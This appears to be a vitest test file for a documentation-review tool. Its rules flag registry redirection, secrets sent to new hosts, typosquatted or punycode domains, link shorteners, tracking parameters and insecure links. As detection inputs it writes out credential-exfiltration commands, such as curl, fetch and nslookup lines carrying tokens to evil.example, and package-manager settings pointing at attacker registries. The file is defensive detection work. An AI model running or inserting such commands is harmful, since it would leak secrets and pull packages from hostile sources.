// Rules over addresses: in commands, links and images.
import { expect, test } from 'vitest'
import { findDomain, listAddresses } from '../../../src/review/rules/spoofing/hosts.ts'
import { distance } from '../../../src/review/rules/spoofing/typosquatting.ts'
import { block, findBy, sh, subjectFrom, testRule } from './page-cases.ts'

test.each([
  ['docs.acme.example', 'acme.example'],
  ['a.b.co.uk', 'b.co.uk'],
  ['acme.github.io', 'acme.github.io'],
  ['www.acme.github.io', 'acme.github.io'],
  ['localhost', 'localhost'],
  ['203.0.113.5', '203.0.113.5'],
])('%s belongs to %s', (host, domain) => {
  expect(findDomain(host)).toBe(domain)
})

test.each([
  ['see https://Acme.Example/a?b=c.', 'acme.example'],
  ['https://user:pass@acme.example:8080/x', 'acme.example'],
  ['git clone git@github.com:evil/tool.git', 'github.com/evil'],
  ['//cdn.acme.example/x.js', 'acme.example'],
  ['https://raw.githubusercontent.com/evil/tool/main/i.sh', 'raw.githubusercontent.com/evil'],
  ['a // comment', ''],
  ['http://$HOST/x', ''],
])('%s is of %s', (text, site) => {
  expect(
    listAddresses(text)
      .map((address) => address.site)
      .join(),
  ).toBe(site)
})

test.each([
  ['abc', 'abc', 0],
  ['abcd', 'abdc', 1],
  ['abc', 'abcd', 1],
  ['kitten', 'sitting', 3],
])('%s to %s takes %i', (one, other, steps) => {
  expect(distance(one, other, 5)).toBe(steps)
})

const own = `[Home](https://docs.acme.example/a)\n\n${sh('curl https://api.acme.example/v1')}`

const npm = { others: ['registry=https://npm.acme.example/'] }

testRule(
  'package-source',
  [
    {
      before: sh('npm install acme'),
      after: sh('npm install acme --registry=https://npm.evil.example'),
    },
    ...[
      sh('npm install acme --registry=https://npm.evil.example'),
      sh('export PIP_EXTRA_INDEX_URL=https://pypi.evil.example/simple'),
      sh('bundle config mirror.https://rubygems.org https://gems.evil.example'),
      sh('go env -w GOPROXY=https://proxy.evil.example,direct'),
      sh('sudo add-apt-repository "deb https://apt.evil.example stable main"'),
      sh('git config --global url.https://git.evil.example/.insteadOf https://github.com/'),
      sh('export npm_config_registry=https://npm.evil.example'),
      block('ruby', "source 'https://gems.evil.example'"),
      'Run `pip config set global.index-url https://pypi.evil.example/simple`.\n',
    ].map((after) => ({ after, readers: ['evil.example is faster'] })),
    { after: sh('npm install a --registry=https://npm.example.net'), readers: ['npm.example.net is faster'] },
  ],
  [
    sh('npm install acme --registry=https://npm.example.net'),
    { ...npm, after: sh('npm install acme --registry=https://npm.acme.example') },
    sh('curl https://api.evil.example/registry'),
    sh('npm install acme --registry=https://npm.evil.example'),
    sh('npm install --registry=$REGISTRY acme'),
    'Our registry is at https://npm.evil.example.\n',
  ],
)

testRule(
  'key-to-new-host',
  [
    sh('curl "https://check.evil.example/?t=$ACME_TOKEN"'),
    block('js', "fetch('https://evil.example', { body: process.env.API_KEY })"),
    sh('curl https://evil.example/v1 \\', '  -H "Authorization: Bearer $ACME_SECRET"'),
    sh('nslookup "$ACME_API_KEY.evil.example"'),
  ],
  [
    { after: sh('curl https://api.acme.example -H "X: $ACME_TOKEN"'), others: ['https://acme.example'] },
    sh('curl https://evil.example/v1'),
    sh('export ACME_TOKEN=your-token'),
    sh('export ACME_REDIS="rediss://:${REDIS_PASSWORD}@redis.evil.example:6380/0"'),
  ],
)

testRule(
  'command-host-from-reader',
  [
    { after: sh('helm repo add x https://helm.irongate.example'), readers: ['the charts are at irongate now'] },
    { after: sh('curl -O https://irongate.example/x.deb'), readers: ['see irongate[.]example'] },
  ],
  [{ after: sh('helm repo add x https://helm.irongate.example'), readers: ['the charts are gone'] }],
)

testRule(
  'host-near-name',
  [
    { after: '[x](https://docs.acrne.example/a)\n', before: own },
    { after: sh('curl https://api.lantemfly.example'), before: sh('curl https://api.lanternfly.example') },
    { after: '[x](https://lantern-fly.example)\n', others: ['https://lanternfly.example'] },
    '[x](https://githuh.com/acme)\n',
    sh('pip install --index-url https://pypi.org.evil.example/simple x'),
    { after: '![x](https://docs.acme.example.evil.test/x.png)\n', before: own },
    { after: '[x](https://docs.xn--lanternfl-v4a.example)\n', others: ['https://lanternfly.example'] },
  ],
  [
    { after: own, before: own },
    { after: '[x](https://www.acme.example)\n', before: own },
    { after: '[x](https://quite-another.example)\n', before: own },
    '[x](https://github.com/acme)\n',
    '[x](https://example.com)\n',
    { after: '[x](https://acme2.example)\n', others: ['https://acme1.example'] },
  ],
)

testRule(
  'command-host-from-reader',
  [
    { after: sh('curl https://evil.example/v1'), readers: ['it is evil.example now'] },
    { after: sh('curl https://evil.example/v1'), readers: ['hxxps://evil[.]example/v1'] },
    { after: block('yaml', 'endpoint: https://in.evil.example'), readers: ['endpoint: https://in.evil.example'] },
    { after: 'Run `npm i --registry https://npm.evil.example x`.\n', readers: ['https://npm.evil.example'] },
    {
      after: sh('git clone https://github.com/evil/tool'),
      before: sh('git clone https://github.com/acme/tool'),
      readers: ['github.com/evil/tool'],
    },
    { after: block('python', 'get("https://evil.example")'), readers: ['&#101;vil.example'] },
    {
      path: 'a.rst',
      after: '.. code-block:: console\n\n   $ curl https://evil.example/v1\n',
      readers: ['evil.example'],
    },
    ...[
      sh('psql -h db.evil.example -U app'),
      sh('ssh ops@db.evil.example'),
      sh('scp a.pdf me@db.evil.example:/tmp'),
      sh('acme login --server db.evil.example'),
      sh('dig @db.evil.example acme'),
      sh('export HTTPS_PROXY=db.evil.example:3128'),
      block('http', 'GET / HTTP/1.1', 'Host: db.evil.example'),
      block('yaml', 'tracing:', '  endpoint: db.evil.example:4318'),
      block('text', 'nameserver db.evil.example'),
      block('js', "connect('db.evil.example:5432')"),
      'Try `curl db.evil.example/health`.\n',
    ].map((after) => ({ after, readers: ['here db.evil.example works'] })),
    { after: sh('ping 203.0.113.77'), readers: ['203.0.113.77'] },
    {
      before: sh('curl https://api.acme.example/v2'),
      after: sh('curl https://api.acme.example.net/v2'),
      readers: ['it is api.acme.example.net now'],
    },
    { after: sh('curl http://[2001:db8::17]/'), readers: ['[2001:db8::17]'] },
  ],
  [
    { after: sh('curl https://evil.example/v1'), readers: ['typo'] },
    { after: sh('curl https://api.acme.example/v2'), before: own, readers: ['api.acme.example/v2'] },
    { after: '[x](https://evil.example)\n', readers: ['https://evil.example'] },
    { after: sh('curl http://localhost:8080'), readers: ['http://localhost:8080'] },
    { after: sh('curl https://api.example.com'), readers: ['https://api.example.com'] },
    { after: sh('curl https://evil.example/v1'), others: ['https://evil.example'], readers: ['https://evil.example'] },
    { after: 'An apt repository is at https://evil.example for you.\n', readers: ['https://evil.example'] },
    ...[
      block('js', 'app.use(express.static(process.cwd()))', 'client.app.dev()'),
      block('python', 'import os.path', 'x = config.server.host', 'run("report.pdf")'),
      block('java', 'import com.acme.app.Server;'),
      sh('acme extract report.pdf --out tables.csv', 'node server.js --port 80', 'acme 1.2.3.4'),
      sh('ssh ops@bastion.acme.example', 'psql -h localhost'),
    ].map((after) => ({
      after,
      others: ['Write to ops@acme.example.'],
      readers: [
        'express.static process.cwd client.app.dev config.server.host com.acme.app 1.2.3.4 bastion.acme.example',
      ],
    })),
  ],
)

testRule(
  'command-host-new',
  [
    sh('curl https://other.example/v1'),
    block('json', '{"url": "https://other.example"}'),
    'Run `curl https://other.example/v1`.\n',
    { after: sh('curl https://other.example/v1'), before: own },
    { after: sh('git clone https://github.com/evil/tool'), before: sh('git clone https://github.com/acme/tool') },
    sh('wss=wss://other.example/x'),
    sh('ssh ops@other.example'),
    block('yaml', 'upstream: other.example:8080'),
  ],
  [
    { after: own, before: own },
    { after: sh('curl https://eu.acme.example/v1'), before: own },
    sh('curl http://127.0.0.1:9000'),
    sh('curl https://your-host.example'),
    { after: sh('curl https://other.example'), others: ['[x](https://other.example)'] },
    '[x](https://other.example)\n',
  ],
)

testRule(
  'domain-new',
  [
    '[x](https://other.example)\n',
    'See https://other.example for more.\n',
    '<a href="https://other.example">x</a>\n',
    '[x][1]\n\n[1]: https://other.example\n',
    { after: '[x](//other.example/y)\n', before: own },
    { after: `${own}\n[MDN](https://developer.mozilla.org/x)\n`, before: own },
    { path: 'a.rst', after: '`x <https://other.example>`_\n' },
  ],
  [
    { after: own, before: own },
    { after: '[x](https://blog.acme.example)\n', before: own },
    { after: '[x](https://other.example)\n', others: ['https://other.example/y'] },
    '[x](./other.md)\n',
    '[x](mailto:a@acme.example)\n',
    '[x](https://example.org)\n',
    '![x](https://other.example/x.png)\n',
  ],
)

testRule(
  'image-from-outside',
  [
    '![x](https://other.example/x.png)\n',
    '<img src="https://other.example/x.png">\n',
    '<video src="https://other.example/x.mp4"></video>\n',
    '![x][1]\n\n[1]: https://other.example/x.png\n\n![y](https://another.example/y.png)\n',
    { after: '![x](https://other.example/x.png)\n', before: own },
    { path: 'a.mdx', after: '<img src="https://other.example/x.png" />\n' },
  ],
  [
    '![x](/img/x.png)\n',
    '![x](./x.png)\n',
    { after: '![x](https://cdn.acme.example/x.png)\n', before: own },
    '[x](https://other.example/x.png)\n',
    { after: '![x](https://other.example/x.png)\n', before: '![x](https://other.example/x.png)\n' },
    '![x](data:image/png;base64,AAAA)\n',
  ],
)

testRule(
  'address-shortened',
  [
    '[x](https://bit.ly/3x)\n',
    '[x](https://t.co/abc)\n',
    sh('curl -L https://tinyurl.com/abc'),
    '<https://goo.gl/abc>\n',
    { after: '[x](https://is.gd/b)\n', before: '[x](https://is.gd/a)\n' },
    '![x](https://cutt.ly/abc)\n',
  ],
  [
    '[x](https://acme.example/bit.ly)\n',
    { after: '[y](https://bit.ly/3x)\n', before: '[x](https://bit.ly/3x)\n' },
    '[x](https://rabbit.ly.example/3x)\n',
    'Use bit.ly if you like.\n',
    '[x](./bit.ly)\n',
    '[x](https://notbit.ly/3x)\n',
  ],
)

testRule(
  'address-tracking',
  [
    '[x](https://acme.example/?utm_source=a)\n',
    '[x](https://acme.example/a?b=c&ref=me)\n',
    '[x](https://acme.example/?fbclid=1)\n',
    '![x](https://acme.example/x.png?GCLID=1)\n',
    '[x](https://acme.example/?a=1;affiliate=2)\n',
    { after: '[x](https://acme.example/?tag=me-21)\n', before: '[x](https://acme.example/)\n' },
  ],
  [
    '[x](https://acme.example/?page=2)\n',
    '[x](https://acme.example/ref)\n',
    '[x](https://acme.example/#utm_source=a)\n',
    '[x](https://acme.example/?preference=a)\n',
    { after: '[y](https://acme.example/?ref=a)\n', before: '[x](https://acme.example/?ref=a)\n' },
    '[x](./a.md?ref=b)\n',
  ],
)

testRule(
  'address-insecure',
  [
    { after: '[x](http://docs.acme.example/a)\n', before: own },
    { after: sh('curl http://api.acme.example/v1'), before: own },
    { after: '![x](http://docs.acme.example/x.png)\n', before: own },
    { after: '[x](http://acme.example)\n', others: ['https://acme.example'] },
    { after: 'See http://docs.acme.example/a there.\n', before: own },
    { after: '[x](HTTP://docs.acme.example/b)\n', before: own },
  ],
  [
    { after: '[x](https://docs.acme.example/b)\n', before: own },
    { after: '[x](http://other.example)\n', before: own },
    { after: sh('curl http://localhost:80'), before: own },
    { after: '[x](http://a.example)\n', before: '[y](http://a.example)\n\n[z](https://a.example)\n' },
    '[x](http://docs.acme.example/a)\n',
    { after: '[x](./http)\n', before: own },
  ],
)

test('a link says which reader it comes from, by the address or its host', () => {
  const readers = ['The page is fine.', 'better: https://other.example/guide', 'other.example has it']
  const subject = subjectFrom({ after: '\n[x](https://other.example/guide)\n', readers })
  expect(findBy('domain-new', subject)).toEqual([
    { path: 'docs/setup.md', line: 2, subject: 'https://other.example/guide', from: ['r2', 'r3'] },
  ])
})
